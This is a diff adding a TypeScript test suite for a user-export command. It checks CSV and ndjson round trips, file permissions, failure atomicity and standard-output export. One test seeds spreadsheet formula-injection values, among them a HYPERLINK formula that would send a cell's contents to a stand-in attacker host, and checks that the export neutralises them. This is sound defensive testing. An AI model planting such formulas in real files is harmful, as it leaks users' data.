@@ -1,0 +1,73 @@
+/** Export: where it writes, and that an import of it brings the same people back. */
+import assert from 'node:assert/strict'
+import { readdir, readFile, stat, symlink, writeFile } from 'node:fs/promises'
+import { join } from 'node:path'
+import { suite, test } from 'node:test'
+
+import { parse } from 'csv-parse/sync'
+
+import { cloneDatabase } from '../../support/database.ts'
+import { everybody, fileOf, startUsers, temporaryFolder, users, various } from './command.ts'
+
+suite('users export', () => {
+  for (const format of ['ndjson', 'csv']) {
+    test(`what is exported as ${format} and imported elsewhere is the same`, async (t) => {
+      const [from, to] = [await cloneDatabase(t), await cloneDatabase(t)]
+      const folder = await temporaryFolder(t)
+      await users(from.url, 'import', await fileOf(t, 'people.ndjson', various))
+      const file = join(folder, `people.${format}`)
+      await writeFile(file, 'left by somebody', { mode: 0o644 })
+      assert.match((await users(from.url, 'export', file)).stderr, /^6 exported/)
+      assert.equal((await stat(file)).mode & 0o777, 0o600)
+      const { stdout } = await users(to.url, 'import', file)
+      assert.match(stdout, /^6 imported, 0 refused/)
+      await assert.rejects(stat(`${file}.refused.ndjson`), { code: 'ENOENT' })
+      assert.deepEqual(await everybody(to.url), await everybody(from.url))
+    })
+  }
+
+  test('what strangers wrote is no formula in the CSV, and comes back as it was', async (t) => {
+    const [from, to] = [await cloneDatabase(t), await cloneDatabase(t)]
+    const auds = ['=HYPERLINK("https://evil.test/?"&F2)', '@sum', "'=1", '\t=1', "'quoted"]
+    const rows = auds.map((aud, index) => ({ email: `-1+1@x${index}.test`, aud }))
+    await users(from.url, 'import', await fileOf(t, 'people.ndjson', rows))
+    const file = join(await temporaryFolder(t), 'people.csv')
+    await users(from.url, 'export', file)
+
+    const cells: string[][] = parse(await readFile(file))
+    assert.deepEqual(
+      cells.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell)),
+      [],
+    )
+    await users(to.url, 'import', file)
+    assert.deepEqual(await everybody(to.url), await everybody(from.url))
+  })
+
+  test('an export that fails leaves the one before as it was, and nothing beside it', async (t) => {
+    const folder = await temporaryFolder(t)
+    const file = join(folder, 'people.ndjson')
+    await writeFile(file, 'of yesterday')
+    const { code, stderr } = await users('postgres://nobody@127.0.0.1:1/none', 'export', file)
+    assert.equal(code, 1, stderr)
+    assert.equal(await readFile(file, 'utf8'), 'of yesterday')
+    assert.deepEqual(await readdir(folder), ['people.ndjson'])
+  })
+
+  test('export writes to what is no file, and leaves it there', async (t) => {
+    const { url } = await cloneDatabase(t)
+    const file = join(await temporaryFolder(t), 'people.csv')
+    await symlink('/dev/null', file)
+    const { code, stderr } = await users(url, 'export', file)
+    assert.equal(code, 0, stderr)
+    assert.ok((await stat(file)).isCharacterDevice())
+  })
+
+  test('export without a file writes to standard output', async (t) => {
+    const { url } = await cloneDatabase(t)
+    await users(url, 'import', await fileOf(t, 'people.ndjson', various))
+    const { written, ended } = startUsers(t, url, 'export', '--format', 'csv')
+    await ended
+    assert.match(written.out, /^id,aud,role,email/)
+    assert.equal(written.out.trim().split('\n').length, 7)
+  })
+})
